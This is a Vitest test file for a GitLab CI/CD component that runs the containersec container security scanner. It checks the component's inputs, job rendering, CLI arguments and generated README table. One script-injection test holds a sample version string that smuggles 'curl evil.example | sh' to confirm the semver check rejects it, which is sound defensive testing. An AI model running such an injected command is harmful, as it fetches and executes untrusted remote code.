import { spawnSync } from 'node:child_process';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import { describe, expect, it } from 'vitest';
import { componentInputs, componentInputsTable } from '../../src/docs/component-doc.js';
import { tempRepo } from '../support/tmp.js';
import pkg from '../../package.json' with { type: 'json' };

const FILE = 'templates/containersec.yml';
const source = readFileSync(FILE, 'utf8');
const INTERPOLATION = /\$\[\[(.*?)\]\]/g;

/** GitLab's interpolation as documented: `$[[ inputs.NAME ]]` becomes the value; arrays inside a string become JSON. */
function render(values: Record<string, unknown>): string {
  const job = source.slice(source.indexOf('\n---\n') + 5);
  return job.replace(INTERPOLATION, (_, expr: string) => {
    const name = /^\s*inputs\.([\w-]+)\s*$/.exec(expr)?.[1];
    if (!name || !(name in values)) throw new Error(`unknown interpolation ${expr}`);
    const value = values[name];
    return typeof value === 'string' ? value : JSON.stringify(value);
  });
}

function defaults(): Record<string, unknown> {
  return Object.fromEntries(Object.entries(componentInputs(source)).map(([name, input]) => [name, input.default]));
}

interface Job {
  stage: string;
  image: string;
  variables: Record<string, string>;
  before_script: string[];
  script: string[];
  artifacts: { when: string; paths: string[]; reports: Record<string, string> };
  rules: { if: string; when?: string }[];
  allow_failure?: unknown;
}

describe('GitLab CI/CD component (templates/containersec.yml)', () => {
  it('is two YAML documents: a spec:inputs header, then the job', () => {
    const docs = parseAllDocuments(source);
    expect(docs).toHaveLength(2);
    for (const doc of docs) expect(doc.errors).toEqual([]);
    expect(Object.keys(docs[0]!.toJS() as object)).toEqual(['spec']);
    expect(Object.keys((docs[0]!.toJS() as { spec: object }).spec)).toEqual(['inputs']);
  });

  it('declares every input of the issue with a description, a default and the right type', () => {
    const inputs = componentInputs(source);
    expect(Object.keys(inputs)).toEqual([
      'stage',
      'job-name',
      'images',
      'policy',
      'vuln-db',
      'fail-on-error',
      'comment',
      'node-image',
      'version',
      'package',
      'token-variable',
    ]);
    for (const [name, input] of Object.entries(inputs)) {
      expect(input.description?.length ?? 0, name).toBeGreaterThan(20);
      expect(input, name).toHaveProperty('default');
      const type = input.type ?? 'string';
      expect(['string', 'number', 'boolean', 'array'], name).toContain(type);
      if (type === 'string') expect(typeof input.default, name).toBe('string');
      if (type === 'array') expect(Array.isArray(input.default), name).toBe(true);
      if (type === 'boolean') expect(typeof input.default, name).toBe('boolean');
      if (input.options) expect(input.options, name).toContain(input.default);
    }
    expect(inputs.images!.type).toBe('array');
    expect(inputs['fail-on-error']).toMatchObject({ type: 'boolean', default: true });
    expect(inputs.comment!.options).toEqual(['update', 'new', 'off']);
    expect(inputs.version!.default).toBe(pkg.version);
    expect(inputs.package!.default).toBe('');
    // As the action: empty means the policy's vulnerabilities.source decides (issue #15).
    expect(inputs['vuln-db']!.default).toBe('');
    expect(inputs['token-variable']!.default).toBe('CONTAINERSEC_GITLAB_TOKEN');
    // Pinned by digest, and an image that ships git (node:<v>-bookworm is built on buildpack-deps:bookworm, whose
    // scm layer installs git), so the job installs nothing per run (issue #15). The slim and alpine variants lack it.
    expect(inputs['node-image']!.default).toMatch(/^node:24-bookworm@sha256:[0-9a-f]{64}$/);
  });

  it('references only declared inputs, and uses every one of them', () => {
    const declared = new Set(Object.keys(componentInputs(source)));
    const used = new Set<string>();
    for (const match of source.matchAll(INTERPOLATION)) {
      const name = /^\s*inputs\.([\w-]+)\s*$/.exec(match[1]!)?.[1];
      expect(name, `malformed interpolation ${match[0]}`).toBeDefined();
      expect(declared.has(name!), `undeclared input ${name}`).toBe(true);
      used.add(name!);
    }
    expect([...used].sort()).toEqual([...declared].sort());
  });

  it('renders with sample inputs into one valid job with the reports, artifacts and rules', () => {
    const rendered = parse(
      render({
        ...defaults(),
        'job-name': 'security-gate',
        stage: 'verify',
        images: ['$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA', 'registry.example.com/base:1'],
        'node-image': `node:24-bookworm@sha256:${'a'.repeat(64)}`,
        'fail-on-error': false,
      }),
    ) as Record<string, Job>;
    expect(Object.keys(rendered)).toEqual(['security-gate']);
    for (const global of ['default', 'variables', 'stages', 'workflow', 'include', 'image', 'before_script'])
      expect(rendered).not.toHaveProperty(global);
    const job = rendered['security-gate']!;
    expect(job.stage).toBe('verify');
    expect(job.image).toBe(`node:24-bookworm@sha256:${'a'.repeat(64)}`);
    expect(job.allow_failure).toBeUndefined();
    expect(JSON.parse(job.variables.CONTAINERSEC_IMAGES!)).toEqual([
      '$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA',
      'registry.example.com/base:1',
    ]);
    for (const value of Object.values(job.variables)) expect(typeof value).toBe('string');
    expect(job.script.every((line) => typeof line === 'string')).toBe(true);
    const run = job.script.find((line) => line.startsWith('npx '))!;
    expect(run).toMatch(
      /^npx --yes --package "\$\{CONTAINERSEC_PACKAGE:-containersec@\$CONTAINERSEC_VERSION\}" -- containersec check \. /,
    );
    expect(job.artifacts.when).toBe('always');
    expect(job.artifacts.reports).toEqual({
      container_scanning: 'gl-container-scanning-report.json',
      codequality: 'gl-code-quality-report.json',
    });
    for (const [format, file] of [
      ['gitlab', 'gl-container-scanning-report.json'],
      ['codequality', 'gl-code-quality-report.json'],
      ['sarif', 'containersec.sarif'],
      ['json', 'containersec.json'],
    ]) {
      expect(run).toContain(`--output ${format}=${file}`);
      expect(job.artifacts.paths).toContain(file);
    }
    expect(job.rules.map((r) => r.if)).toEqual([
      '$CI_PIPELINE_SOURCE == "merge_request_event"',
      '$CI_COMMIT_BRANCH && $CI_OPEN_MERGE_REQUESTS',
      '$CI_COMMIT_BRANCH',
      '$CI_COMMIT_TAG',
    ]);
    expect(job.rules[1]!.when).toBe('never');
  });

  it('its script passes the inputs to the CLI as intended (run in sh with a stand-in npx)', () => {
    const run = (values: Record<string, unknown>) => {
      const job = (parse(render({ ...defaults(), ...values })) as Record<string, Job>)['containersec']!;
      const bin = tempRepo({});
      const npx = path.join(bin, 'npx');
      writeFileSync(npx, '#!/bin/sh\nfor a in "$@"; do printf "%s\\n" "$a"; done\n');
      chmodSync(npx, 0o755);
      const script = path.join(bin, 'job.sh');
      writeFileSync(script, `set -e\n${job.script.join('\n')}\n`);
      const result = spawnSync('sh', [script], {
        env: { PATH: `${bin}:/usr/bin:/bin`, ...job.variables },
        encoding: 'utf8',
      });
      expect(result.status, result.stderr).toBe(0);
      return result.stdout.trimEnd().split('\n');
    };
    const plain = run({});
    expect(plain.slice(0, 7)).toEqual(['--yes', '--package', 'containersec@0.1.0', '--', 'containersec', 'check', '.']);
    expect(plain).not.toContain('--vuln-db');
    expect(plain).toContain('--image-list');
    expect(plain[plain.indexOf('--image-list') + 1]).toBe('[]');
    expect(plain[plain.indexOf('--comment') + 1]).toBe('update');
    expect(plain).not.toContain('--policy');
    expect(plain).not.toContain('--on-error');
    expect(plain).toContain('--publish');

    const custom = run({ policy: 'ci/policy with space.yml', 'fail-on-error': false, comment: 'off', images: ['a:1'] });
    expect(custom[custom.indexOf('--policy') + 1]).toBe('ci/policy with space.yml');
    expect(custom[custom.indexOf('--on-error') + 1]).toBe('warn');
    expect(custom[custom.indexOf('--comment') + 1]).toBe('off');
    expect(JSON.parse(custom[custom.indexOf('--image-list') + 1]!)).toEqual(['a:1']);

    const tarball = 'https://github.com/containersec/containersec/releases/download/v0.2.0/containersec-0.2.0.tgz';
    const fromUrl = run({ package: tarball, 'vuln-db': 'osv-download', version: '0.2.0' });
    expect(fromUrl.slice(0, 3)).toEqual(['--yes', '--package', tarball]);
    expect(fromUrl[fromUrl.indexOf('--vuln-db') + 1]).toBe('osv-download');
    expect(run({ version: '1.2.3' })[2]).toBe('containersec@1.2.3');
  });

  it('pastes no input into script text: inputs reach the shell as quoted variables (gitlab-ci/script-injection)', () => {
    const job = source.slice(source.indexOf('\n---\n') + 5);
    const scriptText = job.slice(job.indexOf('  before_script:'), job.indexOf('  artifacts:'));
    expect(scriptText).not.toMatch(/\$\[\[/);
    const version = componentInputs(source).version!;
    expect(version.regex).toBeDefined();
    const semver = new RegExp(version.regex!);
    expect(semver.test('0.1.0') && semver.test('1.0.0-rc.1')).toBe(true);
    expect(semver.test('1.0.0; curl evil.example | sh')).toBe(false);
  });

  it('installs git only when the image lacks it, never on every run', () => {
    const job = (parse(render(defaults())) as Record<string, Job>)['containersec']!;
    const setup = job.before_script.join('\n');
    expect(setup).toMatch(/if ! command -v git/);
    expect(setup.indexOf('command -v git')).toBeLessThan(setup.indexOf('apt-get'));
  });

  it('the README inputs table is generated from the spec', () => {
    const table = componentInputsTable(source);
    expect(table.split('\n')).toHaveLength(2 + Object.keys(componentInputs(source)).length);
    expect(table).toContain('| `fail-on-error` | boolean |');
    expect(readFileSync('README.md', 'utf8')).toContain(table);
  });
});
